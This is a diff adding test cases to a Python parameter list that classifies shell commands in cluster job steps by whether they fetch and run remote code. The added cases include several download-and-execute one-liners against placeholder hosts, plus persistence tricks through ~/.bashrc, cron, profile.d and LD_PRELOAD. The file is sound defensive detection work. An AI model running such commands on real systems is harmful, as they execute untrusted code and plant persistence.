@@ -385,6 +385,7 @@ ARGUMENTS_OF_STEPS: list[tuple[list[Any], int, Status]] = [
     (["bash", "-c", "source <(wget -qO- https://example.org/x)"], 2, "FAIL"),
     (["bash", "-c", "curl -sO https://example.org/x.sh && ls"], 2, "UNKNOWN"),
     (["bash", "-c", "aws s3 cp s3://elsewhere/x.sh . && bash x.sh"], 2, "INHERITED"),
+    (["bash", "-c", "hadoop fs -get s3://elsewhere/jars/ /usr/lib/spark/jars/"], 2, "INHERITED"),
     *[
         (["bash", "-c", f"curl -s https://example.org/i {run}"], 2, "FAIL")
         for run in (
@@ -410,6 +411,14 @@ ARGUMENTS_OF_STEPS: list[tuple[list[Any], int, Status]] = [
             "curl -s https://example.org/i > /tmp/i; source /tmp/i",
             "bash -s < <(curl -s https://example.org/i)",
             "curl -s https://example.org/i | busybox sh",
+            "lynx -source https://example.org/i | bash",
+            "echo Y3VybA== | base64 -d | sudo bash -x",
+            "cat < /dev/tcp/host/80 | sh -s",
+            "f() { curl -s https://example.org/i; }; f | bash",
+            "curl -s https://example.org/a >> ~/.bashrc",
+            "sudo wget -P /usr/lib/hive/auxlib https://example.org/a.jar",
+            "curl -s https://example.org/a -o /tmp/a.so; LD_PRELOAD=/tmp/a.so ls",
+            "python3 -c 'import urllib.request as u; exec(u.urlopen(place).read())'",
             "curl -s https://example.org/i | sudo tee /etc/profile.d/a.sh",
             "curl -s -o /etc/cron.d/a https://example.org/a",
             "curl -s https://example.org/i -o /tmp/x && spark-submit /tmp/x",
@@ -448,6 +457,10 @@ ARGUMENTS_OF_STEPS: list[tuple[list[Any], int, Status]] = [
             "spark-submit --archives=s3://elsewhere/a=1/e#env /usr/lib/x.py",
             "spark-submit --py-files s3://elsewhere/a,s3://elsewhere/day=1/b /usr/lib/x.py",
         )
+    ],
+    *[
+        (["bash", "-c", f"aws s3 cp s3://elsewhere/run /tmp/run; {text}"], 2, "INHERITED")
+        for text in ("echo 'ls -l' | bash", "python3 -c 'print(1)'", "yes | sh /tmp/run")
     ],
     (["flink", "run", "-m", "yarn-cluster", "s3://elsewhere/job"], 4, "INHERITED"),
     (["hadoop", "jar", "s3://elsewhere/lib", "s3://data/in"], 2, "INHERITED"),
